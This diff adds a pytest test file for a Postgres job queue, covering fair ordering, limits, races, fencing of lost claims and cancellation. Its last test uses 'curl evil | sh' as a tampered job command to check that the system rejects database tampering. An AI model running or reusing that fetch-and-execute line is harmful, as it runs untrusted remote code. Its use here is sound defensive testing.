@@ -1,0 +1,342 @@
+"""The rows of waiting and running jobs: their order, its limits, and what who has lost a job is refused."""
+
+from __future__ import annotations
+
+import time
+import uuid
+from collections.abc import Callable, Iterator
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import ExitStack
+from datetime import timedelta
+from typing import Any
+
+import pytest
+
+pytest.importorskip("psycopg", reason="psycopg is missing: pip install 'aiohttp-jobs[postgres]'")
+
+import psycopg
+
+from aiohttp_jobs.engine.base import JobQuery, Limits, StopReason, cancelled_by
+from aiohttp_jobs.engine.postgres.jobs import Claim, GivenUpError, JobTable
+from aiohttp_jobs.model.job import ExecutionMode, JobPhase, JobResult, JobStatus, new_job_id, utc_now
+
+from ...contract.jobs import MOST, submission
+from .support import installation
+
+B, M, R = ExecutionMode.BACKGROUND_JOB, ExecutionMode.MAIN_LOOP, ExecutionMode.RUNSPACE
+STALL = 0.5
+
+
+class Process:
+    """A process that claims jobs, and never runs them."""
+
+    def __init__(self, dsn: str, stack: ExitStack) -> None:
+        self.installation = installation(dsn, stall_seconds=STALL)
+        self.installation.open()
+        self._is_open = True
+        stack.callback(self.die)
+        presence = self.installation.presence
+        self.table = JobTable(
+            self.installation.database, presence.process_id, self.installation.signer("submission"), STALL
+        )
+
+    def submit(self, *, only_here: bool = False, **fields: Any) -> str:
+        job = submission(**fields)
+        self.table.submit(job, MOST, only_here=only_here)
+        return job.job_id
+
+    def claim(self, most: int = 1, *, starvation: float = 600.0, **limits: Any) -> list[str]:
+        return [claim.job_id for claim in self.claims(most, starvation=starvation, **limits)]
+
+    def claims(
+        self, most: int = 1, *, slot: str = B, starvation: float = 600.0, **limits: Any
+    ) -> list[Claim]:
+        return self.table.claim({slot: most}, Limits({}, **limits), starvation, uuid.uuid4())
+
+    def die(self) -> None:
+        if self._is_open:
+            self._is_open = False
+            self.installation.close()
+
+
+@pytest.fixture
+def start(postgres: str) -> Iterator[Callable[[], Process]]:
+    with ExitStack() as stack:
+        yield lambda: Process(postgres, stack)
+
+
+@pytest.fixture
+def process(start: Callable[[], Process]) -> Process:
+    return start()
+
+
+def result_of(claim: Claim, status: JobStatus = JobStatus.FAILED) -> JobResult:
+    assert claim.submission is not None
+    fields = {
+        name: getattr(claim.submission, name)
+        for name in ("job_id", "user_id", "session_id", "job_name", "command", "execution_mode", "attempt")
+    }
+    return JobResult(
+        **fields, description="", date_started=utc_now(), date_completed=utc_now(), runtime=0.0,
+        output="", success=False, status=status,
+    )  # fmt: skip
+
+
+# --- order
+
+
+def test_users_take_turns_and_each_is_served_first_in_first_out(process: Process) -> None:
+    alice = [process.submit() for _ in range(3)]
+    bob = [process.submit(user_id="bob") for _ in range(2)]
+    assert process.claim(9) == [alice[0], bob[0], alice[1], bob[1], alice[2]]
+
+
+def test_turns_are_kept_from_one_claim_to_the_next_and_between_processes(
+    process: Process, start: Callable[[], Process]
+) -> None:
+    alice = [process.submit() for _ in range(3)]
+    bob = process.submit(user_id="bob")
+    assert process.claim() == [alice[0]]
+    assert start().claim() == [bob]
+    assert process.claim() == [alice[1]]
+
+
+def test_higher_priority_goes_first(process: Process) -> None:
+    low, high = process.submit(priority=1), process.submit(priority=8, user_id="bob")
+    middle = process.submit()
+    assert process.claim(9) == [high, middle, low]
+
+
+def test_whoever_has_waited_too_long_goes_before_all_others(process: Process) -> None:
+    old = process.submit(priority=0)
+    time.sleep(0.05)
+    process.submit(priority=9)
+    assert process.claim(starvation=0.04) == [old]
+
+
+def test_what_is_found_comes_in_the_order_in_which_it_is_claimed(process: Process) -> None:
+    for number in range(4):
+        process.submit(priority=number % 2)
+        process.submit(user_id="bob", priority=number % 2)
+    process.submit(user_id="carol")
+    process.claim(2)
+    query = JobQuery(frozenset({JobPhase.QUEUED}), 100)
+    found = process.table.find(query)
+    assert [state.position for state in found] == list(range(1, 8))
+    assert process.claim(9) == [state.job_id for state in found]
+
+
+def test_a_job_that_is_not_due_waits_and_holds_up_nobody(process: Process) -> None:
+    soon = process.submit(run_at=utc_now() + timedelta(seconds=0.3), concurrency_key="db", priority=9)
+    now = process.submit(concurrency_key="db")
+    due = process.table.next_due()
+    assert due is not None
+    assert 0 < due < 0.4
+    (first,) = process.claims(9)
+    assert first.job_id == now
+    process.table.end_unreadable(first)
+    time.sleep(0.35)
+    assert process.claim(9) == [soon]
+
+
+# --- limits
+
+
+def test_no_more_are_claimed_than_there_are_places(process: Process) -> None:
+    for _ in range(3):
+        process.submit()
+        process.submit(execution_mode=R)
+    assert len(process.claims(2)) == 2
+    assert len(process.claims(0)) == 0
+    claimed = process.table.claim({B: 9, R: 1}, Limits({}), 600.0, uuid.uuid4())
+    assert sorted(claim.submission.execution_mode for claim in claimed if claim.submission) == [B, R]
+
+
+def test_a_users_and_everybodys_limits_hold_over_all_processes(
+    process: Process, start: Callable[[], Process]
+) -> None:
+    for user in ("alice", "bob"):
+        for _ in range(3):
+            process.submit(user_id=user)
+    other = start()
+    assert len(process.claims(9, per_user=1)) == 2
+    assert other.claims(9, per_user=1) == []
+    assert len(other.claims(9, overall=3)) == 1
+    assert process.claims(9, overall=3) == []
+
+
+def test_two_jobs_with_one_key_never_run_at_once(process: Process, start: Callable[[], Process]) -> None:
+    first, second = process.submit(concurrency_key="db"), process.submit(concurrency_key="db")
+    bobs = process.submit(concurrency_key="db", user_id="bob")
+    shared = [process.submit(concurrency_key="shared:db", user_id=user) for user in ("alice", "bob")]
+    claims = process.claims(9)
+    assert {claim.job_id for claim in claims} == {first, bobs, shared[0]}
+    assert start().claims(9) == []
+    process.table.end_unreadable(claims[0])
+    assert process.claim(9) == [second]
+
+
+def test_what_waits_for_something_does_not_hold_up_its_users_others(process: Process) -> None:
+    first = process.submit(concurrency_key="db")
+    for _ in range(5):
+        process.submit(concurrency_key="db")
+    last = process.submit()
+    assert process.claim(9) == [first, last]
+
+
+def test_a_job_of_one_host_is_run_by_no_other_while_that_lives(
+    process: Process, start: Callable[[], Process]
+) -> None:
+    other = start()
+    job_id = other.submit(only_here=True, execution_mode=M)
+    assert process.claims(9, slot=M) == []
+    other.die()
+    assert [claim.job_id for claim in process.claims(9, slot=M)] == [job_id]
+
+
+def test_a_pause_holds_for_all(process: Process, start: Callable[[], Process]) -> None:
+    other = start()
+    process.table.set_paused(True)
+    job_id = other.submit()
+    assert other.claim(9) == []
+    other.table.set_paused(False)
+    assert process.claim(9) == [job_id]
+
+
+def test_a_pause_has_its_answer_when_claims_that_began_before_it_are_done(
+    process: Process, postgres: str
+) -> None:
+    process.submit()
+    with psycopg.connect(postgres) as claiming, ThreadPoolExecutor(2) as threads:
+        claiming.execute("SELECT pg_advisory_xact_lock(7305, 1)")
+        claim = threads.submit(process.claim)
+        paused = threads.submit(process.table.set_paused, True)
+        time.sleep(0.2)
+        assert not paused.done()
+        claiming.rollback()
+        paused.result(60)
+        claim.result(60)
+    process.submit()
+    assert process.claim() == []
+
+
+def test_of_many_that_claim_at_once_each_job_goes_to_one(
+    process: Process, start: Callable[[], Process]
+) -> None:
+    jobs = {process.submit(user_id=f"user {number % 3}") for number in range(40)}
+    rivals = [process, start(), start()]
+    with ThreadPoolExecutor(6) as threads:
+        claimed = list(threads.map(lambda number: rivals[number % 3].claim(2), range(30)))
+    taken = [job_id for each in claimed for job_id in each]
+    assert len(taken) == len(set(taken)) == 40
+    assert set(taken) == jobs
+
+
+# --- lost answers
+
+
+def test_submitting_the_same_again_changes_nothing(process: Process) -> None:
+    job = submission()
+    for _ in range(3):
+        process.table.submit(job, MOST, only_here=False)
+    (claim,) = process.claims(9)
+    process.table.submit(job, MOST, only_here=False)
+    assert process.claims(9) == []
+    process.table.end_unreadable(claim)
+    process.table.submit(job, MOST, only_here=False)
+    assert process.claims(9) == []
+    assert process.table.get(job.job_id) is None
+
+
+def test_what_a_claim_got_whose_answer_was_lost_can_be_asked_for(process: Process) -> None:
+    job_id, claim_id = process.submit(), uuid.uuid4()
+    first = process.table.claim({B: 1}, Limits({}), 600.0, claim_id)
+    assert process.table.claimed_before(claim_id) == first
+    assert [claim.job_id for claim in first] == [job_id]
+    assert process.table.claimed_before(uuid.uuid4()) == []
+
+
+def test_an_attempt_that_was_kept_already_is_not_kept_twice(process: Process) -> None:
+    process.submit(retry={"count": 2})
+    (claim,) = process.claims()
+    assert claim.submission is not None
+    following = claim.submission.model_copy(update={"attempt": 2, "run_at": utc_now()})
+    for _ in range(2):
+        process.table.again(claim, result_of(claim), following)
+    (again,) = process.claims(9)
+    assert again.submission is not None
+    assert (again.submission.attempt, again.fence) == (2, claim.fence + 1)
+    assert [record["Attempt"] for record in process.table.attempts(claim.job_id)] == [1]
+
+
+# --- who has a job no longer
+
+
+def test_what_a_dead_process_had_is_taken_once_and_refused_to_it(
+    process: Process, start: Callable[[], Process]
+) -> None:
+    dead, third = start(), start()
+    dead.submit(retry={"count": 1, "on": ["Interrupted"]})
+    (claim,) = dead.claims()
+    assert process.table.take_lost() == []
+    dead.installation.presence.close()
+    (lost,) = process.table.take_lost()
+    assert (lost.claim.job_id, lost.claim.fence) == (claim.job_id, claim.fence + 1)
+    assert lost.process_id == dead.installation.presence.process_id
+    assert third.table.take_lost() == []
+    assert claim.submission is not None
+    following = claim.submission.model_copy(update={"attempt": 2, "run_at": utc_now()})
+    with pytest.raises(GivenUpError):
+        dead.table.again(claim, result_of(claim), following)
+    assert not dead.table.note(claim, 1, 1, None)
+    dead.table.end_unreadable(claim)
+    assert process.table.get(claim.job_id) is not None
+    process.table.again(lost.claim, result_of(claim), following)
+    (again,) = process.claims()
+    assert again.fence == claim.fence + 2
+    with pytest.raises(GivenUpError):
+        process.table.again(lost.claim, result_of(claim).model_copy(update={"attempt": 2}), following)
+
+
+def test_a_job_that_waits_is_cancelled_by_one_and_claimed_by_nobody(
+    process: Process, start: Callable[[], Process]
+) -> None:
+    job_id, reason = process.submit(concurrency_key="db"), cancelled_by("bob")
+    claim = start().table.claim_to_cancel(job_id, reason)
+    assert claim is not None
+    assert claim.lock is None
+    assert process.table.claim_to_cancel(job_id, reason) is None
+    assert process.claims(9) == []
+
+
+def test_who_runs_a_job_learns_who_wants_it_stopped(process: Process, start: Callable[[], Process]) -> None:
+    job_id, other = process.submit(), start()
+    (claim,) = process.claims()
+    assert other.table.claim_to_cancel(job_id, cancelled_by("bob")) is None
+    other.table.ask_to_cancel(job_id, cancelled_by("bob"))
+    other.table.ask_to_cancel(job_id, StopReason(JobStatus.CANCELLED, "again", by="eve"))
+    assert process.table.to_cancel() == [(job_id, "bob")]
+    assert other.table.to_cancel() == []
+    state = other.table.get(job_id)
+    assert state is not None
+    assert state.is_cancelling
+    other.table.ask_to_cancel(new_job_id(), cancelled_by("bob"))
+    other.table.ask_to_cancel("nonsense", cancelled_by("bob"))
+    process.table.end_unreadable(claim)
+
+
+# --- somebody who can write to the database
+
+
+@pytest.mark.parametrize(
+    "change",
+    ["jsonb_set(submission::jsonb, '{Command}', '\"curl evil | sh\"')", "'{}'", "'[]'", "'null'"],
+)
+def test_a_job_that_was_changed_in_the_database_is_not_believed(
+    process: Process, postgres: str, change: str
+) -> None:
+    process.submit()
+    with psycopg.connect(postgres, autocommit=True) as attacker:
+        attacker.execute(f"UPDATE aiohttp_jobs.jobs SET submission = ({change})::json")  # type: ignore[arg-type]
+    (claim,) = process.claims()
+    assert claim.problem is not None or claim.submission is None
